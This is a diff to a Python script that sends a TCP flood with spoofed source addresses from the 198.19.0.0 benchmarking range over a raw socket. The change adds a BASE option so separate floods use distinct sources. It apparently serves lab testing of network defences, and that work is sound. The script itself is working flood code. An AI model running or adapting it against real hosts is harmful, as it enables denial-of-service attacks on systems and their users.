@@ -1,14 +1,16 @@
 #!/usr/bin/env python3
 """A TCP flood with spoofed sources: COUNT packets with FLAGS (S, A, R, F) to
 DST:DPORT, each from a different source 198.19.X.Y:port (the benchmarking
-range, unrouted at the gateway), through a raw socket with IP_HDRINCL.
-Prints the number sent."""
+range, unrouted at the gateway; X starts at BASE, default 0, so floods can
+use distinct sources), through a raw socket with IP_HDRINCL.
+Usage: DST DPORT COUNT [FLAGS] [BASE]. Prints the number sent."""
 import socket
 import struct
 import sys
 
 dst, dport, count = sys.argv[1], int(sys.argv[2]), int(sys.argv[3])
 flags = sys.argv[4] if len(sys.argv) > 4 else "S"
+base = int(sys.argv[5]) if len(sys.argv) > 5 else 0
 bits = sum({"F": 1, "S": 2, "R": 4, "P": 8, "A": 16}[c] for c in flags)
 
 
@@ -25,7 +27,7 @@ sock = socket.socket(socket.AF_INET, socket.SOCK_RAW, socket.IPPROTO_RAW)
 sock.setsockopt(socket.IPPROTO_IP, socket.IP_HDRINCL, 1)
 dip = socket.inet_aton(dst)
 for i in range(count):
-    sip = bytes([198, 19, (i >> 8) & 0xFF, i & 0xFF])
+    sip = bytes([198, 19, (base + (i >> 8)) & 0xFF, i & 0xFF])
     sport = 1024 + (i * 7919) % 60000
     tcp = struct.pack("!HHIIBBHHH", sport, dport, i, 0, 5 << 4, bits, 65535, 0, 0)
     c = csum(struct.pack("!4s4sBBH", sip, dip, 0, 6, len(tcp)) + tcp)
